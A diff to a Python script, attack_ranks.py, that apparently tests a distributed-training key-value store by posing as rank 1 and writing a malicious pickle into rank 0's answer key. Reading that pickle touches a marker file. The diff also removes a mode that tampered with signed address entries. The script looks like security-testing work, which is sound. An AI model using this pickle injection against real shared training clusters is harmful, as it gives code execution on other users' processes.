@@ -1,6 +1,6 @@
-"""Act as another user who takes the place of rank 1 or changes addresses in the store.
+"""Act as another user who takes the place of rank 1, or changes the store.
 
-Usage: `attack_ranks.py store|group|addresses FILE`, with the port on stdin.
+Usage: `attack_ranks.py store|group FILE`, with the port on stdin.
 
 It sends pickles that touch FILE when they are read, and stays until its stdin ends.
 """
@@ -30,21 +30,12 @@ def attack(mode: str, port: int) -> None:
     )
     if mode == "store":
         key = "hpctrain/0/devices/answers/1"
-        # Wait for the signed answer of rank 0.
+        # Wait for the answer of rank 0.
         store.get(key)
         store.set(key, pickle.dumps(Evil(), protocol=0).decode("ascii"))
         print("sent", flush=True)
         # The connection stays open, which exposes the user.
         threading.Event().wait()
-    if mode == "addresses":
-        keys = [f"hpctrain/0/0//cpu//0/{rank}" for rank in (0, 1)]
-        for key in keys:
-            # Wait for the signed address of the rank.
-            value = bytearray(store.get(key))
-            value[-1] ^= 1
-            store.set(key, bytes(value))
-        print("sent", flush=True)
-        return
     store.get("hpctrain/0/devices/answers/1")
     print("sent", flush=True)
     dist.init_process_group("gloo", store=dist.PrefixStore("hpctrain/0", store), rank=1, world_size=2)
